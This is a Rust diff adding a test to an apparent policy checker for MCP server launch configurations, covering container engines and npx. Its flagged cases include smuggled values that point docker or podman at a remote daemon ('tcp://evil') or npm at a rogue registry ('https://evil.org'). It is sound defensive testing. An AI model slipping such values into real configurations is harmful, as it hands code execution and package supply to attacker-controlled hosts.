@@ -691,6 +691,76 @@ mod policy {
     }
 
     #[test]
+    fn an_allowed_image_of_another_engine_is_another_image() {
+        let policy =
+            "commands = ['docker', 'podman', 'nerdctl']\npackages = ['image:ghcr.io/acme/*']";
+        let image = "ghcr.io/acme/x";
+        for (command, args) in [
+            ("docker", "run -i --rm IMAGE"),
+            ("docker", "--debug -l info container run -i IMAGE --host x"),
+            ("docker", "run -e DOCKER_HOST=tcp://inside IMAGE"),
+            ("podman", "--log-level=debug run IMAGE -c x"),
+            ("docker", "exec -i db mcp"),
+            ("env", "LANG=C docker run IMAGE"),
+        ] {
+            let args = format!(
+                "{:?}",
+                args.replace("IMAGE", image).split(' ').collect::<Vec<_>>()
+            );
+            let server = format!(r#"{{"command": "{command}", "args": {args}}}"#);
+            assert_eq!(found(policy, &server), [], "{server}");
+        }
+        for (command, args, at) in [
+            ("docker", "-H tcp://evil run IMAGE", "-H"),
+            ("docker", "--host=tcp://evil run IMAGE", "--host=tcp://evil"),
+            ("docker", "--config e run IMAGE", "--config"),
+            ("docker", "--context e container run IMAGE", "--context"),
+            ("docker", "compose up", "compose"),
+            ("docker", "mcp gateway run", "mcp"),
+            ("docker", "container create IMAGE", "create"),
+            ("podman", "--url tcp://evil run IMAGE", "--url"),
+            ("podman", "--connection e run IMAGE", "--connection"),
+            ("podman", "-c e run IMAGE", "-c"),
+            ("podman", "--unheard-of run IMAGE", "--unheard-of"),
+            ("podman", "kube play x.yaml", "kube"),
+            ("nerdctl", "--address e run IMAGE", "--address"),
+            (
+                "env",
+                "DOCKER_HOST=tcp://evil docker run IMAGE",
+                "DOCKER_HOST=tcp://evil",
+            ),
+            ("sh", "-c|exec docker -H tcp://evil run IMAGE", "-H"),
+        ] {
+            let mark = if args.contains('|') { '|' } else { ' ' };
+            let args = format!(
+                "{:?}",
+                args.replace("IMAGE", image).split(mark).collect::<Vec<_>>()
+            );
+            let server = format!(r#"{{"command": "{command}", "args": {args}}}"#);
+            let found = found(policy, &server);
+            assert!(
+                matches!(&found[..], [(Some("package"), bytes, _)] if bytes == at),
+                "{server}: {found:?}"
+            );
+        }
+        for name in [
+            "DOCKER_HOST",
+            "DOCKER_CONTEXT",
+            "DOCKER_CONFIG",
+            "CONTAINER_HOST",
+            "CONTAINERS_CONF",
+        ] {
+            let server = format!(
+                r#"{{"command": "docker", "args": ["run", "{image}"], "env": {{"{name}": "tcp://evil"}}}}"#
+            );
+            let found = found(policy, &server);
+            assert_eq!(found.len(), 1, "{name}: {found:?}");
+        }
+        let npm = r#"{"command": "env", "args": ["npm_config_registry=https://evil.org", "npx", "-y", "@acme/a"]}"#;
+        assert_eq!(found("packages = ['@acme/*']", npm).len(), 1);
+    }
+
+    #[test]
     fn addresses_are_found_behind_bridges_and_never_shown_in_full() {
         let policy = "urls = ['https://*.acme.dev/**']";
         for server in [
